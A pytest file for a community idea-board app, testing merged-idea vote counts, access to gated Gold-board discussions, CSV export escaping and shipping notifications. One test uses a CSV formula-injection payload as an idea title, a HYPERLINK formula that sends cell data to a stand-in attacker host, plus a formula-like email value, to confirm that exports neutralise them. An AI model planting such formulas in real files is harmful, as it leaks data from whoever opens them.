"""Review of issue 12 (rev12): defects found and fixed, each with its test."""

from __future__ import annotations

from sqlalchemy import func, select

from app.community.ideas import services, workflow
from app.community.ideas.models import Idea, IdeaVote
from app.community.reports import feedback
from app.extensions import db
from tests.factories import MemberFactory


def _tables(app):  # type: ignore[no-untyped-def]
    with app.test_request_context("/reports/feedback"):
        params, _errors = feedback.parse_params({})
        return {t.id: t for t in feedback.build(params).tables()}


def test_the_report_counts_a_merged_pair_once_per_member(app, board, member, product):
    a = services.create_idea(member, board.id, "Lighter tent poles", "Carbon poles would be great.")
    b = services.create_idea(member, board.id, "Carbon tent poles", "Carbon to save weight please.")
    both, only_b = MemberFactory(), MemberFactory()
    services.vote(both, a.id, 1)
    services.vote(both, b.id, 3)
    services.vote(only_b, b.id, 2)
    workflow.merge(product, b.id, a.id)

    tables = _tables(app)
    # A direct count of the votes that count: those on ideas that are not merged away.
    counted = db.session.scalar(
        select(func.count())
        .select_from(IdeaVote)
        .join(Idea, Idea.id == IdeaVote.idea_id)
        .where(Idea.merged_into_id.is_(None))
    )
    assert counted == 2
    assert [[c.text for c in row] for row in tables["top-votes"].rows] == [
        ["Lighter tent poles", "Tents", "Open", "2", "0", "new"]
    ]
    summary = {row[0].text: row[1].text for row in tables["summary"].rows}
    assert summary["Votes"] == "2"
    assert {row[0].text: row[1].text for row in tables["who-tier"].rows}["Bronze"] == "2"

    workflow.unmerge(product, b.id)
    tables = _tables(app)
    assert {row[0].text: row[1].text for row in tables["summary"].rows}["Votes"] == "3"


def test_the_product_team_answers_in_a_gated_boards_discussion(client, gold_board, product):
    """The product team sees every board it manages; a Gold board's idea discussions (its
    forum category) are open to it too, and still closed to a Bronze member."""
    import pytest

    from app.community.forums import access
    from app.core.errors import NotFound

    gold = MemberFactory(tier="gold")
    idea = services.create_idea(gold, gold_board.id, "Gold idea title", "A long enough text here.")
    post = services.comment(product, idea.id, "Thanks: we are looking at it for spring.")
    assert post.topic_id == idea.topic_id
    assert access.get_topic(product, idea.topic_id).id == idea.topic_id
    with pytest.raises(NotFound):
        access.get_topic(MemberFactory(tier="bronze"), idea.topic_id)
    with pytest.raises(NotFound):
        services.comment(MemberFactory(tier="bronze"), idea.id, "Let me in, I am bronze.")
    assert access.get_topic(gold, idea.topic_id).id == idea.topic_id


def test_the_csv_exports_never_carry_a_formula(client, login_as, board, member):
    """A member's idea title (or a voter's address) that starts like a formula is written
    as text in the report's and the voters' CSV; the report's figures (+50%) stay as shown."""
    import csv
    import io

    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    idea = services.create_idea(member, board.id, title, "A long enough body for the idea.")
    services.vote(MemberFactory(email="=cmd@example.com"), idea.id)
    login_as("product")
    report = client.get("/reports/feedback.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert "'" + title in cells and title not in cells
    assert not any(c.startswith("=") for c in cells)
    voters = client.get(f"/ideas/{idea.id}/voters.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(voters)) for cell in row]
    assert "'=cmd@example.com" in cells and not any(c.startswith("=") for c in cells)


def test_a_merged_duplicates_followers_hear_when_the_idea_it_joined_ships(board, member, product):
    """B is merged into A: B's author (who follows B) and B's followers are told of A's
    status changes and its ship, as A's own voters and followers are; nobody else is."""
    from app.notifications.models import Notification
    from tests.conftest import drain_events

    a = services.create_idea(member, board.id, "Lighter tent poles", "Carbon poles would be great.")
    b_author, b_follower, bystander = MemberFactory(), MemberFactory(), MemberFactory()
    b = services.create_idea(b_author, board.id, "Carbon tent poles", "Carbon to save weight.")
    services.set_follow(b_follower, b.id, True)
    voter = MemberFactory()
    services.vote(voter, a.id)
    workflow.merge(product, b.id, a.id)
    drain_events()
    db.session.execute(Notification.__table__.delete())
    workflow.change_status(product, a.id, "shipped", "In the 2027 range.")
    drain_events()
    told = set(
        db.session.scalars(
            select(Notification.member_id).where(Notification.type == "idea_shipped")
        )
    )
    assert told == {member.id, voter.id, b_author.id, b_follower.id}
    assert bystander.id not in told
